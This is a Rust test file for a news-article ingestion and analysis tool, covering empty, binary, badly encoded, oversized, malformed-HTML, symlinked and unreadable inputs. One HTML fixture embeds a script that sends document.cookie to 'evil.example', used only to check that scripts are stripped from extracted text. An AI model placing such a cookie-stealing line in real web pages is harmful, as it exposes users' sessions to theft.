//! A catalogue of bad inputs. Every one must end with a per-file message a non-programmer
//! understands, and the good files loaded beside it must still be read and analysed.
//!
//! Fixtures are generated into a temporary folder by the tests themselves (no large
//! binaries in the repository; the over-limit file is sparse).

// Test helpers outside #[test] functions: a panic there is a failed test, never a user's crash.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use parallax::analysis::{analyze, AnalysisOptions};
use parallax::ingest::{self, collect_files, read_bytes, read_file, ReadError, ReadOptions};
use parallax::report::Report;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

/// A short, real article the bad files are mixed with.
const GOOD: &str = "Harbour talks resume in Oslo\n\
By Tomas Reed\n\
Published: 19 June 2024\n\n\
OSLO, June 19 — Prime Minister Lena Varga arrived in Oslo late on Tuesday for a two-day summit.\n\n\
The two leaders last met in 2012, when they signed a fisheries agreement in Bergen.\n";

/// Rust debug formatting or library jargon that must never reach the user.
const JARGON: &[&str] = &[
    "Os {",
    "Utf8Error",
    "os error",
    "Error {",
    "kind:",
    "Custom {",
    "FromUtf8",
    "panicked",
    "called `",
    "NotFound",
    "PermissionDenied",
];

/// Asserts `message` is plain words: a sentence, no debug output, and mentions `words`.
fn assert_plain(message: &str, words: &[&str]) {
    assert!(!message.trim().is_empty(), "empty message");
    for j in JARGON {
        assert!(!message.contains(j), "message has jargon {j:?}: {message}");
    }
    let lower = message.to_lowercase();
    assert!(
        words.iter().any(|w| lower.contains(&w.to_lowercase())),
        "message {message:?} should mention one of {words:?}"
    );
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, bytes).expect("write fixture");
    p
}

/// The error message `read_file` gives for `bytes` stored as `name`.
fn read_error(dir: &Path, name: &str, bytes: &[u8]) -> String {
    let p = write(dir, name, bytes);
    match read_file(&p, &ReadOptions::default()) {
        Ok(a) => panic!("{name} should be refused, read as {:?}", a.body),
        Err(e) => e.to_string(),
    }
}

fn utf16(text: &str, little: bool, bom: bool) -> Vec<u8> {
    let mut out = Vec::new();
    if bom {
        out.extend_from_slice(if little { &[0xff, 0xfe] } else { &[0xfe, 0xff] });
    }
    for unit in text.encode_utf16() {
        out.extend_from_slice(&if little {
            unit.to_le_bytes()
        } else {
            unit.to_be_bytes()
        });
    }
    out
}

/// Runs `parallax analyze --json` and parses the report.
fn cli(paths: &[&Path]) -> (Option<i32>, Report) {
    let out = Command::new(env!("CARGO_BIN_EXE_parallax"))
        .arg("analyze")
        .arg("--json")
        .args(paths)
        .output()
        .expect("the parallax binary runs");
    let stdout = String::from_utf8(out.stdout).expect("JSON output is UTF-8");
    let report: Report = serde_json::from_str(&stdout).unwrap_or_else(|e| {
        panic!(
            "output is a report ({e}); stderr: {}",
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (out.status.code(), report)
}

#[test]
fn empty_and_blank_files() {
    let dir = tempfile::tempdir().unwrap();
    assert_plain(&read_error(dir.path(), "empty.txt", b""), &["empty"]);
    assert_plain(
        &read_error(dir.path(), "blank.txt", b"  \n\n\t  \r\n   "),
        &["blank", "no text"],
    );
    // Unicode white space only (no-break spaces, an ideographic space) is blank too.
    assert_plain(
        &read_error(
            dir.path(),
            "nbsp.txt",
            "\u{a0}\u{3000}\n\u{2003}".as_bytes(),
        ),
        &["blank", "no text"],
    );
}

#[test]
fn binaries_renamed_to_txt_are_named() {
    let dir = tempfile::tempdir().unwrap();
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\0\0\0\x10\x08\x06\0\0\0\x1f\xf3\xffa";
    assert_plain(&read_error(dir.path(), "photo.txt", png), &["image", "png"]);
    let pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n";
    assert_plain(&read_error(dir.path(), "report.txt", pdf), &["pdf"]);
    let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0".to_vec();
    elf.extend(std::iter::repeat_n(0u8, 200));
    assert_plain(&read_error(dir.path(), "program.txt", &elf), &["program"]);
    // Random bytes with no known signature are still refused as binary.
    let noise: Vec<u8> = (0..4096u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    assert_plain(
        &read_error(dir.path(), "noise.txt", &noise),
        &["binary", "not"],
    );
}

#[test]
fn invalid_utf8_is_read_with_a_legacy_encoding() {
    let dir = tempfile::tempdir().unwrap();
    // Latin-1 text: not valid UTF-8, still an article.
    let p = write(
        dir.path(),
        "latin1.txt",
        b"The transfer fee was \xa32m, the caf\xe9 owner said on Tuesday.",
    );
    let a = read_file(&p, &ReadOptions::default()).expect("Latin-1 is read");
    assert!(a.body.contains("£2m"), "{}", a.body);
    assert!(a.body.contains("café"));
    assert!(
        a.warnings.iter().any(|w| w.contains("not UTF-8")),
        "the guess is reported: {:?}",
        a.warnings
    );
    // Truncated UTF-8 (a multi-byte character cut at the end) is still read.
    let mut cut = format!("{GOOD}\nThe talks in Zürich on Monday cost ").into_bytes();
    cut.extend_from_slice(&"€".as_bytes()[..2]);
    let p = write(dir.path(), "cut.txt", &cut);
    let a = read_file(&p, &ReadOptions::default()).expect("truncated UTF-8 is read");
    assert_eq!(a.encoding, "UTF-8", "not garbled as a legacy encoding");
    assert!(a.body.contains("The talks in Zürich"), "{}", a.body);
}

#[test]
fn utf16_with_and_without_bom() {
    let dir = tempfile::tempdir().unwrap();
    let text = "Talks resumed in Oslo on Tuesday, 18 June 2024, officials said.";
    for (little, bom) in [(true, true), (false, true), (true, false), (false, false)] {
        let name = format!(
            "utf16{}{}.txt",
            if little { "le" } else { "be" },
            if bom { "bom" } else { "" }
        );
        let p = write(dir.path(), &name, &utf16(text, little, bom));
        let a = read_file(&p, &ReadOptions::default())
            .unwrap_or_else(|e| panic!("{name} should be read: {e}"));
        assert_eq!(a.body.trim(), text, "{name}");
        assert!(a.encoding.starts_with("UTF-16"), "{name}: {}", a.encoding);
        if !bom {
            assert!(
                a.warnings.iter().any(|w| w.contains("byte-order mark")),
                "{name}: the guess is reported"
            );
        }
    }
    // A UTF-16 file with an odd number of bytes (cut short) is still read.
    let mut odd = utf16(GOOD, true, true);
    odd.push(b'x');
    let p = write(dir.path(), "odd.txt", &odd);
    let a = read_file(&p, &ReadOptions::default()).expect("odd-length UTF-16 is read");
    assert!(a.body.contains("arrived in Oslo"), "{}", a.body);
}

#[test]
fn an_over_limit_file_is_refused_quickly_by_its_size() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("huge.txt");
    let f = std::fs::File::create(&p).unwrap();
    // Sparse: 200 MB on paper, no data written.
    f.set_len(200 * 1024 * 1024).unwrap();
    drop(f);
    let start = Instant::now();
    let err = read_file(&p, &ReadOptions::default()).expect_err("over the limit");
    assert!(
        start.elapsed() < Duration::from_secs(1),
        "refused before reading"
    );
    assert!(matches!(err, ReadError::TooLarge { .. }));
    let msg = err.to_string();
    assert_plain(&msg, &["up to"]);
    assert!(msg.contains("200 MB") && msg.contains("32 MB"), "{msg}");

    // Beside good files, through the command line: refused, the others analysed, fast.
    write(dir.path(), "good.txt", GOOD.as_bytes());
    let start = Instant::now();
    let (code, report) = cli(&[dir.path()]);
    assert!(
        start.elapsed() < Duration::from_secs(30),
        "the big file does not slow the rest"
    );
    assert_eq!(code, Some(1));
    assert_eq!(report.articles.len(), 1);
    assert_eq!(report.errors.len(), 1);
    assert!(report.errors[0].path.ends_with("huge.txt"));
    assert_plain(&report.errors[0].message, &["200 MB"]);
}

#[test]
fn a_single_ten_megabyte_line_is_read() {
    let sentence = "The delegation arrived on Tuesday and the talks went on. ";
    let mut line = String::with_capacity(10 * 1024 * 1024 + sentence.len());
    while line.len() < 10 * 1024 * 1024 {
        line.push_str(sentence);
    }
    let start = Instant::now();
    let a = read_bytes("line.txt", line.as_bytes(), None, &ReadOptions::default())
        .expect("a long line is text");
    assert!(a.body.len() > 9 * 1024 * 1024);
    assert!(
        start.elapsed() < Duration::from_secs(60),
        "reading 10 MB took {:?}",
        start.elapsed()
    );
    // A 10 MB line with no spaces or sentence ends at all.
    let blob = "x".repeat(10 * 1024 * 1024);
    let start = Instant::now();
    let a = read_bytes("blob.txt", blob.as_bytes(), None, &ReadOptions::default())
        .expect("a long word is text");
    assert!(!a.body.is_empty());
    assert!(start.elapsed() < Duration::from_secs(60));
}

#[test]
fn deeply_nested_and_malformed_html() {
    let depth = 100_000;
    let page = format!(
        "<html><body>{}<p>{GOOD}</p>{}</body></html>",
        "<div>".repeat(depth),
        "</div>".repeat(depth)
    );
    let start = Instant::now();
    let a = read_bytes("deep.html", page.as_bytes(), None, &ReadOptions::default())
        .expect("deep page read");
    assert!(a.body.contains("arrived in Oslo"), "{}", a.body);
    assert!(
        start.elapsed() < Duration::from_secs(20),
        "100,000 levels took {:?}",
        start.elapsed()
    );

    // Deeply nested candidate roots (<article> in <article>…) must not be quadratic.
    let depth = 100_000;
    let page = format!(
        "<html><body>{}<p>{GOOD}</p>{}</body></html>",
        "<article>".repeat(depth),
        "</article>".repeat(depth)
    );
    let start = Instant::now();
    let a = read_bytes("arts.html", page.as_bytes(), None, &ReadOptions::default())
        .expect("nested articles read");
    assert!(a.body.contains("arrived in Oslo"), "{}", a.body);
    assert!(
        start.elapsed() < Duration::from_secs(30),
        "nested <article> took {:?}",
        start.elapsed()
    );

    // Unclosed, misnested and stray tags, a broken comment, a bad entity.
    let broken =
        "<html><head><title>Broken page</title><body><p>First <b>bold <i>both</b> italic</p>\
        <div><p>The second paragraph says the ministers &notanentity; &#xFFFFFFFF; &#0; met \
        in Oslo on Tuesday to discuss fishing quotas.</div></span></span>\
        <!-- never closed <p>hidden?";
    let a = read_bytes(
        "broken.html",
        broken.as_bytes(),
        None,
        &ReadOptions::default(),
    )
    .expect("malformed HTML is read");
    assert!(a.body.contains("The second paragraph"), "{}", a.body);
    assert!(!a.body.contains("hidden?"), "comment text is not content");
    // Tags with no text at all: an article with nothing to read is an error, not a panic.
    match read_bytes(
        "tags.html",
        b"<html><body><div><span></span></div></body></html>",
        None,
        &ReadOptions::default(),
    ) {
        Ok(a) => assert!(a.body.trim().is_empty()),
        Err(e) => assert_plain(&e.to_string(), &["no text", "empty", "blank"]),
    }
}

#[test]
fn scripts_iframes_and_remote_images_are_not_text() {
    let page = r#"<!doctype html><html><head><title>Summit in Oslo</title>
<script>window.location = "https://evil.example/steal?c=" + document.cookie; var SECRET_SCRIPT = 1;</script>
<script src="https://tracker.example/t.js"></script>
<style>body { background: url(https://cdn.example/bg.png) }</style>
</head><body><article>
<p>The leaders met in Oslo on Tuesday to discuss fishing rights.</p>
<img src="https://images.example/photo-of-summit.jpg" alt="Photo">
<iframe src="https://frames.example/embed">Iframe fallback text</iframe>
<p onclick="alert('CLICK_HANDLER')">They agreed to meet again in 2025.</p>
<noscript><img src="https://pixel.example/p.gif"></noscript>
<object data="https://objects.example/x.swf"></object>
</article></body></html>"#;
    let a = read_bytes("page.html", page.as_bytes(), None, &ReadOptions::default()).unwrap();
    assert!(a.body.contains("The leaders met in Oslo on Tuesday"));
    assert!(a.body.contains("They agreed to meet again in 2025."));
    for leaked in [
        "SECRET_SCRIPT",
        "document.cookie",
        "evil.example",
        "tracker.example",
        "images.example",
        "photo-of-summit",
        "frames.example",
        "Iframe fallback",
        "CLICK_HANDLER",
        "pixel.example",
        "background",
        "objects.example",
    ] {
        assert!(
            !a.body.contains(leaked),
            "{leaked} leaked into the body: {}",
            a.body
        );
    }
}

#[test]
fn folders_and_symlink_loops() {
    let dir = tempfile::tempdir().unwrap();
    // A folder named explicitly as a file.
    let sub = dir.path().join("folder.txt");
    std::fs::create_dir(&sub).unwrap();
    let err = read_file(&sub, &ReadOptions::default()).expect_err("a folder is not a file");
    assert_plain(&err.to_string(), &["folder"]);

    #[cfg(unix)]
    {
        let root = dir.path().join("corpus");
        std::fs::create_dir_all(root.join("inner")).unwrap();
        write(&root, "good.txt", GOOD.as_bytes());
        // inner/back → corpus: a loop of folders.
        std::os::unix::fs::symlink(&root, root.join("inner").join("back")).unwrap();
        // self.txt → self.txt: a link that never reaches a file.
        std::os::unix::fs::symlink(root.join("self.txt"), root.join("self.txt")).unwrap();
        // dangling.txt → a file that does not exist.
        std::os::unix::fs::symlink(root.join("gone.txt"), root.join("dangling.txt")).unwrap();

        let start = Instant::now();
        let (files, errors) = collect_files(std::slice::from_ref(&root));
        assert!(start.elapsed() < Duration::from_secs(5), "the loop ends");
        assert_eq!(files.len(), 1, "good.txt once: {files:?}");
        assert!(files[0].ends_with("good.txt"));
        let loop_err = errors
            .iter()
            .find(|e| e.path.ends_with("self.txt"))
            .expect("the self-link is reported");
        assert_plain(&loop_err.message, &["loop", "shortcut"]);
        let dangling = errors
            .iter()
            .find(|e| e.path.ends_with("dangling.txt"))
            .expect("the dangling link is reported");
        assert_plain(&dangling.message, &["deleted", "moved", "not found"]);

        let (code, report) = cli(&[&root]);
        assert_eq!(code, Some(1));
        assert_eq!(report.articles.len(), 1);
        assert_eq!(report.errors.len(), 2);
        for e in &report.errors {
            assert_plain(&e.message, &["loop", "deleted", "moved"]);
        }
    }
}

#[test]
fn a_file_deleted_between_listing_and_reading() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "good.txt", GOOD.as_bytes());
    let doomed = write(dir.path(), "doomed.txt", GOOD.as_bytes());
    let (files, errors) = collect_files(&[dir.path().to_path_buf()]);
    assert!(errors.is_empty());
    assert_eq!(files.len(), 2);
    std::fs::remove_file(&doomed).unwrap();
    let mut read = 0;
    for f in &files {
        match read_file(f, &ReadOptions::default()) {
            Ok(_) => read += 1,
            Err(e) => {
                assert!(f.ends_with("doomed.txt"));
                assert_plain(&e.to_string(), &["deleted or moved"]);
            }
        }
    }
    assert_eq!(read, 1);
    // A path given on the command line that does not exist.
    let (code, report) = cli(&[&dir.path().join("good.txt"), &doomed]);
    assert_eq!(code, Some(1));
    assert_eq!(report.articles.len(), 1);
    assert_plain(&report.errors[0].message, &["deleted or moved"]);
}

#[cfg(unix)]
#[test]
fn unreadable_permissions() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let locked = write(dir.path(), "locked.txt", GOOD.as_bytes());
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o000)).unwrap();
    // Root (as in CI containers) reads files whatever their mode, so only check the
    // refusal when the mode is actually enforced.
    let enforced = std::fs::read(&locked).is_err();
    match read_file(&locked, &ReadOptions::default()) {
        Ok(_) => assert!(!enforced, "the file was readable after all"),
        Err(e) => assert_plain(&e.to_string(), &["permission", "allowed"]),
    }
    // The message itself, whatever user the tests run as.
    let denied = ReadError::from(std::io::Error::from(std::io::ErrorKind::PermissionDenied));
    assert_plain(&denied.to_string(), &["isn't allowed"]);
    // A locked folder: its files are not listed, the folder is reported.
    let sub = dir.path().join("private");
    std::fs::create_dir(&sub).unwrap();
    write(&sub, "inside.txt", GOOD.as_bytes());
    std::fs::set_permissions(&sub, std::fs::Permissions::from_mode(0o000)).unwrap();
    let (files, errors) = collect_files(&[dir.path().to_path_buf()]);
    if std::fs::read_dir(&sub).is_err() {
        assert!(!files.iter().any(|f| f.ends_with("inside.txt")));
        assert!(errors.iter().any(|e| e.path.ends_with("private")));
    }
    for e in &errors {
        assert_plain(&e.message, &["allowed", "permission"]);
    }
    // Restore so the temporary folder can be removed.
    std::fs::set_permissions(&sub, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o644)).unwrap();
}

#[test]
fn impossible_and_extreme_dates() {
    let texts = [
        "Published: 31 February 2024\n\nThe talks on 31 February 2024 were cancelled.",
        "Published: 30 February 2023\n\nOfficials met on February 30, 2023 in Oslo.",
        "Published: 1 January 0000\n\nThe archive dates from year 0 and from 0 AD, it said.",
        "Published: 1 January 99999\n\nThe plan runs until 99999 and until 31 December 99999.",
        "Date: 2024-13-45\n\nThe report was dated 2024-13-45 and 2024-02-30T25:61:00Z.",
        "Updated: 18/06/-0001\n\nThe year -44 and the year 262143 and the 9999999999th day.",
    ];
    let articles: Vec<_> = texts
        .iter()
        .enumerate()
        .map(|(i, t)| {
            read_bytes(
                &format!("dates{i}.txt"),
                t.as_bytes(),
                None,
                &ReadOptions::default(),
            )
            .expect("text with odd dates is still an article")
        })
        .collect();
    for a in &articles {
        // A date that does not exist is never reported as the publication date.
        if let Some(p) = &a.meta.published {
            let shown = p.value.date.to_string();
            assert!(
                !shown.contains("02-31") && !shown.contains("02-30"),
                "{}: {shown}",
                a.name
            );
        }
    }
    let analysis = analyze(&articles, &AnalysisOptions::default());
    for (a, per) in articles.iter().zip(&analysis.articles) {
        for t in &per.timexes {
            assert_eq!(&a.body[t.span.clone()], t.text);
            // Impossible calendar dates are not given as exact days.
            assert!(
                !t.value.starts_with("2024-02-31") && !t.value.starts_with("2023-02-30"),
                "{}: {:?} → {}",
                a.name,
                t.text,
                t.value
            );
        }
    }
    // The same through the command line, next to a good file.
    let dir = tempfile::tempdir().unwrap();
    for (i, t) in texts.iter().enumerate() {
        write(dir.path(), &format!("dates{i}.txt"), t.as_bytes());
    }
    write(dir.path(), "good.txt", GOOD.as_bytes());
    let (code, report) = cli(&[dir.path()]);
    assert_eq!(code, Some(0));
    assert_eq!(report.articles.len(), texts.len() + 1);
}

#[test]
fn a_folder_mixing_good_and_bad_files() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    write(d, "a_good.txt", GOOD.as_bytes());
    write(d, "b_empty.txt", b"");
    write(d, "c_blank.txt", b"   \n\n ");
    write(d, "d_image.txt", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR");
    write(d, "e_doc.txt", b"%PDF-1.4\n1 0 obj\n");
    write(d, "f_prog.txt", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0");
    write(d, "g_utf16.txt", &utf16(GOOD, true, true));
    write(
        d,
        "h_page.html",
        format!("<html><body><article><p>{GOOD}</p></article></body></html>").as_bytes(),
    );
    std::fs::create_dir(d.join("i_folder.txt")).unwrap();
    write(
        d,
        "notes.docx",
        b"PK\x03\x04 not read: unsupported extension",
    );

    let loaded = ingest::load_all(&[d.to_path_buf()], &ReadOptions::default());
    let names: Vec<String> = loaded.articles.iter().map(|a| a.name.clone()).collect();
    assert_eq!(names, ["a_good.txt", "g_utf16.txt", "h_page.html"]);
    assert_eq!(loaded.errors.len(), 5, "{:?}", loaded.errors);

    let (code, report) = cli(&[d]);
    assert_eq!(code, Some(1));
    assert_eq!(report.articles.len(), 3);
    let by_name = |n: &str| {
        report
            .errors
            .iter()
            .find(|e| e.path.ends_with(n))
            .unwrap_or_else(|| panic!("{n} reported: {:?}", report.errors))
            .message
            .clone()
    };
    assert_plain(&by_name("b_empty.txt"), &["empty"]);
    assert_plain(&by_name("c_blank.txt"), &["blank"]);
    assert_plain(&by_name("d_image.txt"), &["image"]);
    assert_plain(&by_name("e_doc.txt"), &["pdf"]);
    assert_plain(&by_name("f_prog.txt"), &["program"]);
    // The good article was analysed: its 2012 meeting is an event.
    assert!(
        report
            .events
            .iter()
            .any(|e| e.time.value.starts_with("2012")),
        "events: {:?}",
        report
            .events
            .iter()
            .map(|e| &e.time.value)
            .collect::<Vec<_>>()
    );
}
